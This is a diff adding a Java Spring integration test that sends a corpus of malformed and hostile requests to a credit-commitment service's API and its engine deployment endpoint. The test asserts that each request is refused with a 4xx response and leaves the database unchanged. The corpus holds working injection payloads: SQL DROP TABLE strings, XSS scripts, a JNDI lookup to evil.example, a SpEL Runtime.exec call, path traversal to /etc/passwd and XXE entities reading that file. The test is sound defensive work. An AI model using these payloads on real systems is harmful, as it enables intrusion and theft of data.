@@ -1,0 +1,343 @@
+package org.creditcommitment.commitment;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.TreeSet;
+import java.util.UUID;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+
+import org.creditcommitment.IntegrationTest;
+import org.creditcommitment.catalogue.CommitmentType;
+import org.creditcommitment.subject.TestCodes;
+import org.junit.jupiter.api.Test;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.beans.factory.annotation.Value;
+import org.springframework.jdbc.core.JdbcTemplate;
+import org.springframework.web.bind.annotation.RequestMethod;
+import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
+import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
+
+/**
+ * Issue 11, bad input: a corpus of malformed and hostile requests against every write endpoint of /api
+ * (found from the handler mapping, so a new endpoint without corpus entries fails this test) and against
+ * engine deployments. Every answer is a 4xx with a bilingual message, never a 500; the product's tables
+ * are unchanged afterwards.
+ */
+class HostileInputTest extends IntegrationTest {
+
+  static final List<String> INJECTIONS = List.of("'; DROP TABLE commitment_case; --", "\" OR 1=1 --",
+      "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
+      "#{T(java.lang.Runtime).getRuntime().exec('id')}", "../../../../etc/passwd", "\u0000\u202e控制字符");
+  static final String XXE = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
+  static final List<String> PRODUCT_TABLES = List.of("credit_subject", "credit_dishonesty_record",
+      "credit_fulfilment_record", "credit_penalty", "credit_pushed_record", "credit_inspection_feed",
+      "subject_checksum_exception", "audit_event", "notification_outbox", "catalogue_department", "catalogue_item",
+      "commitment_letter", "commitment_signature", "commitment_case", "credit_query", "act_re_deployment",
+      "act_ru_execution", "act_ru_task", "act_id_user");
+
+  record Attack(String method, String path, String user, String contentType, String body, String what) {}
+
+  @Autowired
+  LifecycleDriver driver;
+  @Autowired
+  JdbcTemplate jdbc;
+  @Autowired
+  @org.springframework.beans.factory.annotation.Qualifier("requestMappingHandlerMapping")
+  RequestMappingHandlerMapping mappings;
+  @Value("${cc.calendar.dir}")
+  Path calendarDir;
+
+  private final ObjectMapper json = new ObjectMapper();
+
+  @Test
+  void everyHostileRequestIsRefusedWithA4xxAndABilingualMessageAndChangesNothing() throws Exception {
+    String subject = driver.subject("AA");
+    CaseRecord waitingForConditions = driver.apply(subject, "SCJG-SP-001", CommitmentType.NOTIFY_COMMIT);
+    driver.runJobs(waitingForConditions);
+    CaseRecord waitingForSignature = driver.apply(driver.subject("AA"), "SCJG-SP-001", CommitmentType.NOTIFY_COMMIT);
+    driver.runJobs(waitingForSignature);
+    driver.notifyConditions(waitingForSignature);
+
+    List<Attack> corpus = corpus(subject, waitingForConditions.caseNo(), waitingForSignature.caseNo());
+    Set<String> covered = new TreeSet<>();
+    corpus.forEach(a -> covered.add(a.method() + " " + a.path().replaceAll("/XY\\d+|/[0-9A-Z]{18}(?=/|$)|/\\d+(?=/)", "/{}")
+        .replaceAll("/api/catalogue/[^/]+", "/api/catalogue/{}")));
+    assertThat(covered).as("every write endpoint of /api has hostile requests in the corpus").containsAll(writeEndpoints());
+
+    Map<String, Long> before = rowCounts();
+    Path badCalendar = calendarDir.resolve("cn-2099.json");
+    Files.createDirectories(calendarDir);
+    Files.writeString(badCalendar, "{\"year\": 2099, \"holidays\": [\"2099-13-45\"], " + XXE.replace('"', '\'') + "}");
+    List<String> failures = new ArrayList<>();
+    try {
+      for (Attack attack : corpus) {
+        HttpResponse<String> answer = send(attack);
+        String problem = check(attack, answer);
+        if (problem != null) {
+          failures.add(problem);
+        }
+      }
+    } finally {
+      Files.deleteIfExists(badCalendar);
+    }
+    assertThat(failures).as("answers that are not a clear 4xx").isEmpty();
+    assertThat(rowCounts()).as("the database is unchanged after refused requests").isEqualTo(before);
+    assertThat(corpus.size()).isGreaterThanOrEqualTo(100);
+    System.out.println("HostileInputTest: " + corpus.size() + " hostile requests, all refused with 4xx");
+  }
+
+  /** POST/PUT/PATCH/DELETE mappings under /api, as "METHOD /path/{}". */
+  private Set<String> writeEndpoints() {
+    Set<String> found = new TreeSet<>();
+    for (RequestMappingInfo info : mappings.getHandlerMethods().keySet()) {
+      for (String pattern : info.getPatternValues()) {
+        for (RequestMethod method : info.getMethodsCondition().getMethods()) {
+          if (pattern.startsWith("/api/") && method != RequestMethod.GET) {
+            found.add(method + " " + pattern.replaceAll("\\{[^}]+}", "{}"));
+          }
+        }
+      }
+    }
+    assertThat(found).isNotEmpty();
+    return found;
+  }
+
+  private List<Attack> corpus(String existingSubject, String caseAtConditions, String caseAtSignature) throws Exception {
+    List<Attack> corpus = new ArrayList<>();
+    String valid = TestCodes.uscc();
+    // --- POST /api/cases
+    Map<String, Object> application = new LinkedHashMap<>(Map.of("applicantCode", valid, "applicantName", "某某有限公司",
+        "applicantEmail", "a@example.test", "itemCode", "SCJG-SP-001", "commitmentType", "NOTIFY_COMMIT"));
+    for (String code : List.of("123", valid.toLowerCase(), TestCodes.usccWithWrongCheck(), "44150219800101123X",
+        "", " ", "9144150".repeat(4), "91441500MA4UH0DR3O")) {
+      corpus.add(post("/api/cases", "portal", with(application, "applicantCode", code), "applicant code '" + code + "'"));
+    }
+    for (String injection : INJECTIONS) {
+      corpus.add(post("/api/cases", "portal", with(with(application, "applicantName", injection), "applicantCode", injection),
+          "injection in name and code"));
+      corpus.add(post("/api/cases", "portal", with(with(application, "itemCode", injection), "applicantCode", "x"),
+          "injection in item code"));
+    }
+    corpus.add(post("/api/cases", "portal", with(application, "itemCode", "NOPE-999"), "unknown item"));
+    corpus.add(post("/api/cases", "portal", with(application, "itemCode", "WSJK-YL-002"), "item not open to commitment"));
+    corpus.add(post("/api/cases", "portal", with(with(application, "itemCode", "SCJG-YP-002"), "commitmentType",
+        "TOLERATE_MISSING"), "type the item does not offer"));
+    corpus.add(post("/api/cases", "portal", with(application, "missingMaterials", List.of("营业执照复印件")),
+        "missing materials in notify-commit mode"));
+    corpus.add(post("/api/cases", "portal", with(with(application, "commitmentType", "TOLERATE_MISSING"),
+        "missingMaterials", List.of("不存在的材料")), "unknown missing material"));
+    corpus.add(post("/api/cases", "portal", with(application, "commitmentType", "ANYTHING"), "unknown enum value"));
+    corpus.add(post("/api/cases", "portal", with(application, "commitmentType", 5), "number for enum"));
+    corpus.add(post("/api/cases", "portal", with(application, "missingMaterials", "营业执照"), "string for list"));
+    corpus.add(post("/api/cases", "portal", with(application, "applicantName", Map.of("a", 1)), "object for string"));
+    corpus.add(post("/api/cases", "portal", with(application, "applicantEmail", "not-an-email"), "invalid e-mail"));
+    corpus.add(post("/api/cases", "portal", with(application, "applicantName", "名".repeat(101)), "name too long"));
+    corpus.add(post("/api/cases", "portal", with(application, "isAdmin", true), "extra field"));
+    corpus.add(post("/api/cases", "portal", Map.of(), "empty object"));
+    corpus.add(post("/api/cases", "portal", without(application, "applicantName"), "missing name"));
+    corpus.add(post("/api/cases", "portal", without(application, "commitmentType"), "missing type"));
+    corpus.add(raw("POST", "/api/cases", "portal", "application/json", "[]", "array body"));
+    corpus.add(raw("POST", "/api/cases", "portal", "application/json", "{\"applicantCode\": ", "truncated JSON"));
+    corpus.add(raw("POST", "/api/cases", "portal", "application/json", "", "empty body"));
+    corpus.add(raw("POST", "/api/cases", "portal", "application/json", "null", "null body"));
+    corpus.add(raw("POST", "/api/cases", "portal", "application/xml", XXE, "XML with an external entity"));
+    corpus.add(raw("POST", "/api/cases", "portal", "text/plain", "hello", "text body"));
+    corpus.add(raw("POST", "/api/cases", "portal", "application/json",
+        "{\"applicantName\": \"" + "x".repeat(300 * 1024) + "\"}", "oversized body (300 KB)"));
+    corpus.add(raw("POST", "/api/cases", "portal", "application/json", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000),
+        "deeply nested JSON"));
+    // --- case operations: unknown case, wrong state, bad bodies
+    for (String op : List.of("signature", "withdrawal", "materials", "rectification")) {
+      corpus.add(post("/api/cases/XY20990101999999/" + op, "portal", Map.of("reason", "x"), op + " of an unknown case"));
+      corpus.add(raw("POST", "/api/cases/" + caseAtConditions + "/" + op, "portal", "application/json", "{\"x\": 1}",
+          op + " with an unknown field"));
+      corpus.add(raw("POST", "/api/cases/" + caseAtConditions + "/" + op, "portal", "application/xml", XXE, op + " XXE"));
+    }
+    corpus.add(post("/api/cases/" + caseAtConditions + "/signature", "portal",
+        Map.of("signer", "法定代表人", "letterSha256", "a".repeat(64)), "sign before the letter is issued"));
+    corpus.add(post("/api/cases/" + caseAtSignature + "/signature", "portal",
+        Map.of("signer", "法定代表人", "letterSha256", "b".repeat(64)), "sign another letter than the issued one"));
+    corpus.add(post("/api/cases/" + caseAtSignature + "/signature", "portal",
+        Map.of("signer", "法定代表人", "letterSha256", "not-a-hash"), "malformed letter hash"));
+    for (String injection : INJECTIONS) {
+      corpus.add(post("/api/cases/" + caseAtSignature + "/signature", "portal",
+          Map.of("signer", injection, "letterSha256", "c".repeat(64)), "injection in signer"));
+    }
+    corpus.add(post("/api/cases/" + caseAtSignature + "/signature", "portal", Map.of("signer", " ", "letterSha256",
+        "c".repeat(64)), "blank signer"));
+    corpus.add(post("/api/cases/" + caseAtConditions + "/materials", "portal", Map.of("materials", List.of("x")),
+        "materials when none are owed"));
+    corpus.add(post("/api/cases/" + caseAtConditions + "/materials", "portal", Map.of("materials", List.of()),
+        "empty materials"));
+    corpus.add(post("/api/cases/" + caseAtConditions + "/rectification", "portal",
+        Map.of("description", "<script>alert(1)</script>", "refused", false), "rectification in the wrong state"));
+    corpus.add(post("/api/cases/" + caseAtConditions + "/rectification", "portal",
+        Map.of("description", "x", "refused", "maybe"), "wrong type for a boolean"));
+    corpus.add(post("/api/cases/" + caseAtConditions + "/withdrawal", "portal", Map.of("reason", "理".repeat(501)),
+        "withdrawal reason too long"));
+    // --- credit registry (credit-office)
+    Map<String, Object> newSubject = Map.of("code", valid, "name", "某某有限公司", "grade", "AA");
+    for (String code : List.of("123", valid.toLowerCase(), TestCodes.usccWithWrongCheck(), "'; DROP TABLE credit_subject; --")) {
+      corpus.add(post("/api/subjects", "credit-office", with(newSubject, "code", code), "subject code '" + code + "'"));
+    }
+    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "code", existingSubject), "existing subject"));
+    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "subjectType", "NATURAL"), "type not matching the code"));
+    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "grade", "AAAA"), "grade not on the scale"));
+    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "name", ""), "blank name"));
+    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "email", "<script>@x"), "script as e-mail"));
+    corpus.add(post("/api/subjects", "credit-office", with(newSubject, "extra", 1), "extra field"));
+    for (String injection : INJECTIONS.subList(0, 4)) {
+      corpus.add(post("/api/subjects", "credit-office", with(with(newSubject, "name", injection), "grade", injection),
+          "injection in name and grade"));
+    }
+    corpus.add(put("/api/subjects/" + valid, "credit-office", Map.of("name", "x"), "update an unknown subject"));
+    corpus.add(put("/api/subjects/" + valid.toLowerCase(), "credit-office", Map.of("name", "x"), "update with lower case"));
+    corpus.add(put("/api/subjects/" + existingSubject, "credit-office", Map.of("name", ""), "update with blank name"));
+    corpus.add(put("/api/subjects/" + existingSubject, "credit-office", Map.of("name", "x", "subjectType", "NATURAL"),
+        "update to the wrong type"));
+    corpus.add(put("/api/subjects/" + existingSubject + "/grade", "credit-office", Map.of("grade", "Z"), "unknown grade"));
+    corpus.add(put("/api/subjects/" + existingSubject + "/grade", "credit-office", Map.of("grade", 3), "number grade"));
+    corpus.add(put("/api/subjects/" + existingSubject + "/grade", "credit-office", Map.of(), "missing grade"));
+    Map<String, Object> record = Map.of("sourceUnit", "市场监管局", "basis", "销售过期食品", "date", "2025-12-01",
+        "publicityEnd", "2026-12-01");
+    corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
+        with(record, "date", "2025-13-45"), "impossible date"));
+    corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
+        without(record, "publicityEnd"), "missing publicity end"));
+    corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
+        with(record, "publicityEnd", "2020-01-01"), "publicity ends before it starts"));
+    corpus.add(post("/api/subjects/" + existingSubject + "/dishonesty-records", "credit-office",
+        with(record, "basis", "据".repeat(2001)), "basis too long"));
+    corpus.add(post("/api/subjects/" + valid + "/dishonesty-records", "credit-office", record, "unknown subject"));
+    corpus.add(put("/api/subjects/" + existingSubject + "/dishonesty-records/999999999/status", "credit-office",
+        Map.of("status", "REVOKED", "reason", "x"), "unknown record"));
+    corpus.add(put("/api/subjects/" + existingSubject + "/dishonesty-records/abc/status", "credit-office",
+        Map.of("status", "REVOKED", "reason", "x"), "record id not a number"));
+    corpus.add(put("/api/subjects/" + existingSubject + "/dishonesty-records/1/status", "credit-office",
+        Map.of("status", "DELETED", "reason", "x"), "unknown status"));
+    corpus.add(put("/api/subjects/" + existingSubject + "/blacklist", "credit-office", Map.of("basis", "x"),
+        "blacklist without the flag"));
+    corpus.add(put("/api/subjects/" + existingSubject + "/blacklist", "credit-office", Map.of("blacklisted", "yes"),
+        "blacklist flag of the wrong type"));
+    corpus.add(put("/api/subjects/" + valid + "/red-list", "credit-office", Map.of("redListed", true), "red-list unknown"));
+    corpus.add(put("/api/subjects/" + existingSubject + "/red-list", "credit-office", Map.of(), "red-list without flag"));
+    corpus.add(post("/api/checksum-exceptions", "credit-office", Map.of("code", "123", "reason", "x"), "invalid code"));
+    corpus.add(post("/api/checksum-exceptions", "credit-office", Map.of("code", valid, "reason", " "), "blank reason"));
+    corpus.add(post("/api/checksum-exceptions", "credit-office", Map.of("code", valid.toLowerCase(), "reason", "x"),
+        "lower-case code"));
+    // --- catalogue (camunda-admin)
+    JsonNode item = json.readTree(http.get("/api/catalogue/SCJG-SP-001", "admin").body());
+    Map<String, Object> itemMap = json.convertValue(item, Map.class);
+    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "code", "OTHER-001"), "code mismatch"));
+    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "department", "nope"), "unknown department"));
+    for (String period : List.of("5XD", "P-1D", "PT0S", "2000WD", "'; DROP TABLE catalogue_item; --")) {
+      corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "periods", Map.of("signing", period,
+          "decision", "10WD", "inspection", "P3M", "rectification", "15WD", "materials", "20WD")), "period " + period));
+    }
+    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "commitmentTypes", List.of("NONE")), "unknown type"));
+    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "letterTemplate", "承诺人：${applicantName}${evil}"),
+        "template with an unknown placeholder"));
+    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "openToCommitment", "sometimes"), "wrong type"));
+    corpus.add(put("/api/catalogue/" + UUID.randomUUID(), "admin", Map.of("name", "<script>alert(1)</script>"),
+        "new item with nothing but a script name"));
+    corpus.add(raw("PUT", "/api/catalogue/SCJG-SP-001", "admin", "application/xml", XXE, "catalogue XXE"));
+    // --- calendar
+    corpus.add(raw("POST", "/api/calendar/reload", "admin", "application/json", "{}", "reload a broken operator file"));
+    // --- engine deployments (camunda-admin)
+    corpus.add(deployment("broken.bpmn", "<definitions>not bpmn", "malformed BPMN"));
+    corpus.add(deployment("xxe.bpmn", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
+        + "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" targetNamespace=\"x\"><process id=\"p&x;\""
+        + " isExecutable=\"true\"/></definitions>", "BPMN with an external entity"));
+    corpus.add(deployment("noHistory.bpmn", "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\""
+        + " targetNamespace=\"x\"><process id=\"p\" isExecutable=\"true\"><startEvent id=\"s\"/>"
+        + "<sequenceFlow id=\"f\" sourceRef=\"s\" targetRef=\"missing\"/></process></definitions>", "BPMN with a dangling flow"));
+    corpus.add(deployment("broken.dmn", "<definitions xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\">"
+        + "<decision id=\"d\"><decisionTable><output id=\"o\"/><rule><outputEntry><text>(</text></outputEntry></rule>",
+        "malformed DMN"));
+    corpus.add(deployment("xxe.dmn", XXE, "DMN with an external entity"));
+    corpus.add(deployment("broken.form", "{\"components\": [", "malformed form"));
+    return corpus;
+  }
+
+  private String check(Attack attack, HttpResponse<String> answer) {
+    int status = answer.statusCode();
+    String at = attack.method() + " " + attack.path().substring(0, Math.min(80, attack.path().length())) + " ("
+        + attack.what() + ") → " + status + " " + answer.body().substring(0, Math.min(300, answer.body().length()));
+    if (status < 400 || status >= 500) {
+      return at;
+    }
+    if (attack.path().startsWith("/api/")) {
+      try {
+        JsonNode problem = json.readTree(answer.body());
+        if (problem.path("messageZh").asText().isBlank() || problem.path("messageEn").asText().isBlank()) {
+          return at + " (no bilingual message)";
+        }
+      } catch (Exception e) {
+        return at + " (not problem+json)";
+      }
+    }
+    return null;
+  }
+
+  private HttpResponse<String> send(Attack attack) {
+    HttpRequest.Builder builder = http.request(attack.path(), attack.user(), "demo");
+    if (attack.contentType() != null) {
+      builder.header("Content-Type", attack.contentType());
+    }
+    return http.send(builder.method(attack.method(), HttpRequest.BodyPublishers.ofString(attack.body(),
+        StandardCharsets.UTF_8)));
+  }
+
+  private Map<String, Long> rowCounts() {
+    Map<String, Long> counts = new LinkedHashMap<>();
+    for (String table : PRODUCT_TABLES) {
+      counts.put(table, jdbc.queryForObject("select count(*) from " + table, Long.class));
+    }
+    return counts;
+  }
+
+  private Attack post(String path, String user, Object body, String what) throws Exception {
+    return raw("POST", path, user, "application/json", json.writeValueAsString(body), what);
+  }
+
+  private Attack put(String path, String user, Object body, String what) throws Exception {
+    return raw("PUT", path, user, "application/json", json.writeValueAsString(body), what);
+  }
+
+  private static Attack raw(String method, String path, String user, String type, String body, String what) {
+    return new Attack(method, path, user, type, body, what);
+  }
+
+  private static Attack deployment(String file, String content, String what) {
+    String boundary = "----cc" + UUID.randomUUID();
+    String body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"deployment-name\"\r\n\r\nhostile-"
+        + file + "\r\n--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + file + "\"; filename=\"" + file
+        + "\"\r\nContent-Type: application/octet-stream\r\n\r\n" + content + "\r\n--" + boundary + "--\r\n";
+    return new Attack("POST", "/engine-rest/deployment/create", "admin", "multipart/form-data; boundary=" + boundary,
+        body, what);
+  }
+
+  static Map<String, Object> with(Map<String, Object> base, String key, Object value) {
+    Map<String, Object> copy = new LinkedHashMap<>(base);
+    copy.put(key, value);
+    return copy;
+  }
+
+  static Map<String, Object> without(Map<String, Object> base, String key) {
+    Map<String, Object> copy = new LinkedHashMap<>(base);
+    copy.remove(key);
+    return copy;
+  }
+}
